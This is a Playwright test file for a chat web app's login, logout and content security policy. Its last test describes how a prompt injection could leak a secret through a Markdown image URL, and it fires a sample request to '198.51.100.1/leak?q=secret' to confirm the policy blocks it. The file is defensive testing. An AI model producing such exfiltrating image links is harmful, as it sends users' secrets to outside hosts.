"""Logging in and out of the UI, in a real browser, against the API's accounts."""

from __future__ import annotations

import re

from playwright.sync_api import Page, expect

from tests.ui.stack import UiStack, screenshot


def test_a_wrong_password_is_refused_then_the_right_one_logs_in_and_a_reload_keeps_it(stack: UiStack,
                                                                                       page: Page) -> None:
    username = stack.new_user()
    page.goto(f"{stack.ui.base_url}/chat")
    page.wait_for_url("**/login*")  # not logged in: the page sends you to log in
    page.fill("#username", username)
    page.fill("#password", "not-the-password")
    page.click("#submit")
    expect(page.locator("#error")).to_contain_text("Wrong username or password")
    screenshot(page, "login-failed")

    stack.login(page, username)
    expect(page.locator("#current-user")).to_have_text(username)
    screenshot(page, "chat-logged-in")
    page.reload()
    expect(page.locator("#current-user")).to_have_text(username)


def test_logout_ends_the_api_session_too(stack: UiStack, page: Page) -> None:
    username = stack.new_user()
    stack.login(page, username)
    token_cookie = next(cookie for cookie in page.context.cookies() if cookie["name"] == "llmws_token")
    assert token_cookie["httpOnly"]
    # A cross-site link (or image) to the logout address only shows a button.
    page.goto(f"{stack.ui.base_url}/logout")
    page.goto(f"{stack.ui.base_url}/chat")
    expect(page.locator("#current-user")).to_have_text(username)
    page.click("#logout")
    expect(page.locator("#notice")).to_contain_text("logged out")
    page.goto(f"{stack.ui.base_url}/chat")
    page.wait_for_url("**/login*")


def test_the_page_loads_no_remote_image(stack: UiStack, page: Page) -> None:
    """The content security policy lets the page work and stops a Markdown image (what a prompt injection would
    use to carry a secret off in its URL) from loading from another host."""
    violations: list[str] = []
    page.on("console", lambda message: violations.append(message.text)
            if "Content Security Policy" in message.text else None)
    stack.login(page, stack.new_user())
    expect(page.locator("#logout")).to_be_visible()
    # What the policy stops is from other hosts (the template's web fonts, for one); nothing of this server's.
    local = [text for text in violations if not re.search(r"'https?://(?!127\.0\.0\.1|localhost)", text)]
    assert local == [], local
    blocked = page.evaluate("""() => new Promise(resolve => {
        document.addEventListener("securitypolicyviolation", event => resolve(event.violatedDirective));
        setTimeout(() => resolve("not blocked"), 20000);  // without the policy, fail rather than hang
        const image = document.createElement("img");
        image.src = "http://198.51.100.1/leak?q=secret";
        document.body.appendChild(image);
    })""")
    assert blocked == "img-src"
